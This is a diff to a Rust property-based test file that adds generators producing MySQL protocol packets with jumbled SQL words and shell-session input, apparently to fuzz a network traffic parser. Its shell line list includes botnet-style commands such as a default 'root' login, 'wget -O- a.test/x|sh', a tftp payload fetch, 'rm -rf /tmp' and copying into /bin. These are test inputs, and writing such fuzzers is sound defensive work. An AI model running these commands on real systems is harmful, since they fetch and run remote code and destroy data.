@@ -98,6 +98,8 @@ fn stream() -> impl Strategy<Value = Vec<u8>> {
         6 => mail(),
         4 => chat(),
         4 => redis(),
+        4 => mysql(),
+        4 => shell(),
         1 => garbage,
     ];
     prop::collection::vec(part, 0..5).prop_map(|parts| parts.concat())
@@ -246,6 +248,81 @@ fn redis() -> impl Strategy<Value = Vec<u8>> {
         .prop_map(|commands| commands.concat().into())
 }
 
+fn mysql() -> impl Strategy<Value = Vec<u8>> {
+    let login = prop::sample::select(vec![&b""[..], MYSQL_LOGIN]);
+    let queries = prop::collection::vec(statement(), 0..10);
+    (login, queries).prop_map(|(login, queries)| {
+        let packet =
+            |text: &String| [&[text.len() as u8 + 1, 0, 0, 0, 3], text.as_bytes()].concat();
+        [login.to_vec(), queries.iter().flat_map(packet).collect()].concat()
+    })
+}
+
+const MYSQL_LOGIN: &[u8] =
+    b"\x24\0\0\x01\x05\xa2\0\0\0\0\0\x01\x2d\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0a\0\x01b";
+
+/// Words of SQL in any order, with something at their beginning that might be a statement.
+fn statement() -> impl Strategy<Value = String> {
+    let words = prop::collection::vec(prop::sample::select(SQL_WORDS), 0..12);
+    (prop::sample::select(SQL_VERBS), words).prop_map(|(verb, words)| {
+        let text = format!("{verb} {}", words.join(" "));
+        text.chars().take(120).filter(char::is_ascii).collect()
+    })
+}
+
+const SQL_VERBS: &[&str] = &[
+    "SELECT", "SHOW", "USE", "CREATE", "DROP", "INSERT", "DESC", "SET", "COPY", "UPDATE", "(", "",
+];
+
+const SQL_WORDS: &[&str] = &[
+    "TABLE",
+    "DATABASE",
+    "FUNCTION",
+    "IF NOT EXISTS",
+    "FROM",
+    "INTO",
+    "VALUES",
+    "LIKE",
+    "AS",
+    "LIMIT",
+    "tables",
+    "information_schema",
+    "orders",
+    "t",
+    "version()",
+    "concat",
+    "count(*)",
+    "NULL",
+    "@@version",
+    "@x",
+    "'a''b'",
+    "'%",
+    "`c`",
+    "\"d\"",
+    "[e]",
+    "1",
+    "-2",
+    "0x4d",
+    "*",
+    ",",
+    ".",
+    "(",
+    ")",
+    ";",
+    "+",
+    "::",
+    "?",
+    "$1",
+    "/*!40101",
+    "*/",
+    "-- ",
+    "STDIN",
+    "DATABASES",
+    "VARIABLES",
+    "COLUMNS FROM",
+    "TABLES",
+];
+
 /// Commands in both forms, and what is nearly one.
 const REDIS_COMMANDS: &[&str] = &[
     "*1\r\n$4\r\nPING\r\n",
@@ -272,6 +349,36 @@ const REDIS_COMMANDS: &[&str] = &[
     "CONFIG SET dir /\r\n",
     "EVAL \"return KEYS[9]\" 1 a\r\n",
     "SET a \"\r\n",
+];
+
+fn shell() -> impl Strategy<Value = Vec<u8>> {
+    let lines = prop::collection::vec(prop::sample::select(SHELL_LINES), 0..20);
+    let start = prop::sample::select(&["", "root\r\nroot\r\n"][..]);
+    (start, lines).prop_map(|(start, lines)| [start, &lines.concat()].concat().into_bytes())
+}
+
+/// Lines of a shell, and what is nearly one.
+const SHELL_LINES: &[&str] = &[
+    "enable\r\n",
+    "/bin/busybox X\r\n",
+    "cd /tmp || cd /x; > .f\r\0",
+    "echo -ne '\\x7f\\0377' >> .f\n",
+    "printf %s%d%b\\n a 1 '\\t' > g; cat .f g | wc\r\n",
+    "for i in * ?; do echo $i; done\r\n",
+    "while :; do a=$a$a$i; done\r\n",
+    "if [ -s .f ]; then\r\n",
+    "fi\r\n",
+    "cat <<E > h\r\n",
+    "E\r\n",
+    "cat > i\r\n\x04",
+    "passwd\r\nx\r\nx\r\n",
+    "((`echo $(b`)\r\n",
+    "'\r\n\"\r\n'\r\n",
+    "sh\r\n\x03sh g; . g; eval sh -c 'sh g'\r\n",
+    "dd if=/dev/urandom of=j bs=99 count=3; mv j k; cp k /bin/l; rm -rf /tmp\r\n",
+    "wget -O- a.test/x|sh;tftp -g -r y b;ln -s . m; cd m/m; ls -la / *\r\n",
+    "ps|awk '{print $1 \"-\" $NF}'|sort -rn|uniq -c|tr a-z A-Z|cut -d' ' -f2|grep -v ^$\r\n",
+    "exit\r\n",
 ];
 
 fn dns_message() -> impl Strategy<Value = Vec<u8>> {
